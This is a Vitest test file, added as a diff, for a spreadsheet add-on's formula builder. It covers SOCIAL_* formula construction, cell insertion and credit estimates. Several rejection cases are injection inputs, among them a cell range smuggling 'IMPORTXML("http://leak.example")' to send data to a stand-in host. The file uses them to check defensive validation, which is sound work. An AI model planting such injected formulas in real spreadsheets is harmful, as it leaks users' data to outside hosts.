@@ -1,0 +1,102 @@
+import { expect, test } from 'vitest';
+import { type BuilderChoice, builder_formulas, buildFormula } from '../../../addon/formula-builder.ts';
+import { readFormula } from '../harness/formula-syntax.ts';
+import { people, setKey, setUpWorkbench } from '../workbench.ts';
+
+const bench = setUpWorkbench();
+const [ada = '', ben = ''] = Object.keys(people);
+const choice: BuilderChoice = {
+  ...{ name: 'SOCIAL_PROFILE', area: { sheet: 'Sheet1', a1: 'A2:A3' }, ticked: ['followers', 'posts'], limit: '' },
+  ...{ days: '', campaign: 'c1', section: 'totals', max_age: '1d' },
+};
+
+test.each([
+  [{}, '=SOCIAL_PROFILE(A2:A3; "followers,posts")'],
+  [{ max_age: '7d' }, '=SOCIAL_PROFILE(A2:A3; "followers,posts"; "7d")'],
+  [{ area: { sheet: "Ann's list", a1: 'B2' } }, `=SOCIAL_PROFILE('Ann''s list'!B2; "followers,posts")`],
+  [{ name: 'SOCIAL_POSTS', ticked: ['likes'], limit: '10' }, '=SOCIAL_POSTS(A2:A3; 10; "likes")'],
+  [{ name: 'SOCIAL_POSTS', ticked: ['likes'] }, '=SOCIAL_POSTS(A2:A3; ; "likes")'],
+  [{ name: 'SOCIAL_TRACKED', ticked: ['views'], days: '30' }, '=SOCIAL_TRACKED(A2:A3; "views"; 30)'],
+  [{ name: 'SOCIAL_REPORT', campaign: 'Say "hi"', section: 'items' }, '=SOCIAL_REPORT("Say ""hi"""; "items")'],
+  [{ name: 'SOCIAL_CREDITS' }, '=SOCIAL_CREDITS()'],
+])('a choice is a formula with semicolons, which every locale accepts: %j', (change, formula) => {
+  expect(buildFormula({ ...choice, ...change }, 'Sheet1')).toEqual({ formula });
+  readFormula(formula);
+});
+
+test.each([
+  [{ name: 'IMPORTXML' }, 'function'],
+  [{ area: null }, 'Pick the cells'],
+  [{ area: { sheet: 'Sheet1', a1: 'A2;IMPORTXML("http://leak.example")' } }, 'Pick the cells'],
+  [{ ticked: ['secret"'] }, 'at least one field'],
+  [{ name: 'SOCIAL_POSTS', ticked: ['likes'], limit: '21' }, 'from 1 to 20'],
+  [{ name: 'SOCIAL_TRACKED', ticked: ['views'], days: '1)+1' }, 'from 1 to 365'],
+  [{ name: 'SOCIAL_REPORT', campaign: '' }, 'campaign'],
+  [{ name: 'SOCIAL_REPORT', section: 'x' }, 'section'],
+  [{ max_age: '"&A1&"' }, 'age'],
+])('what is missing or unfit is a sentence, and nothing else gets into a formula: %j', (change, words) => {
+  expect(buildFormula({ ...choice, ...change }, 'Sheet1')).toEqual({ missing: expect.stringContaining(words) });
+});
+
+test('the builder offers every formula of the add-on', async () => {
+  const file = await bench.open();
+  const formulas = file.callable.filter((name) => name.startsWith('SOCIAL_'));
+  expect(builder_formulas.map(({ name }) => name).sort()).toEqual(formulas.sort());
+});
+
+test('the built formula runs in the selected cell', async () => {
+  const file = await bench.open();
+  setKey(file);
+  file.type('A2', ada, ben);
+  file.select('C2');
+  expect(file.run('sidebarInsertFormula', [choice])).toEqual({ ok: true, message: 'The formula is in C2.' });
+  expect(file.values('C2:E3')).toEqual([
+    ['OK', 1_200, 34],
+    ['OK', 5_400_000, ''],
+  ]);
+});
+
+test('a formula goes into no cell that is in use, and into none that it reads', async () => {
+  const file = await bench.open();
+  file.type('A2', ada);
+  file.type('B2', 'mine');
+  for (const [cell, words] of [
+    ['B2', 'not empty'],
+    ['A3', 'reads'],
+  ] as const) {
+    file.select(cell);
+    expect(file.run('sidebarInsertFormula', [choice])).toMatchObject({
+      ok: false,
+      message: expect.stringContaining(words),
+    });
+  }
+  file.select('C2');
+  const refresh = { ...choice, max_age: 'SOCIAL_REFRESH' };
+  expect(file.run('sidebarInsertFormula', [refresh])).toMatchObject({
+    ok: false,
+    message: expect.stringContaining('menu'),
+  });
+  expect(Object.keys(file.sheet()).sort()).toEqual(['A2', 'B2']);
+});
+
+test('an estimate says what is already paid for and what is no URL, and costs nothing', async () => {
+  const file = await bench.open();
+  setKey(file);
+  file.type('A2', ada, ben, '', 'not a profile', ada);
+  file.cell('SOCIAL_PROFILE', [ada, 'posts']);
+  const area = { sheet: 'Sheet1', a1: 'A2:A6' };
+  expect(file.run('sidebarEstimate', ['1d', area])).toEqual({
+    ...{ ok: true, rows: 3, cost_min: 1, cost_max: 1, cached_rows: 1, unreadable_rows: 1, note: null },
+  });
+  expect((await bench.api.log()).credits_charged).toBe(1);
+});
+
+test('a server that does not answer leaves the estimate at the most it can cost, and says so', async () => {
+  const file = await bench.open();
+  setKey(file);
+  file.type('A2', ada, ben);
+  await bench.api.begin({ answers: [{ status: 502, body: '' }] });
+  expect(file.run('sidebarEstimate', ['1d', { sheet: 'Sheet1', a1: 'A2:A3' }])).toMatchObject({
+    ...{ cost_min: 0, cost_max: 2, note: expect.stringContaining('cannot answer') },
+  });
+});
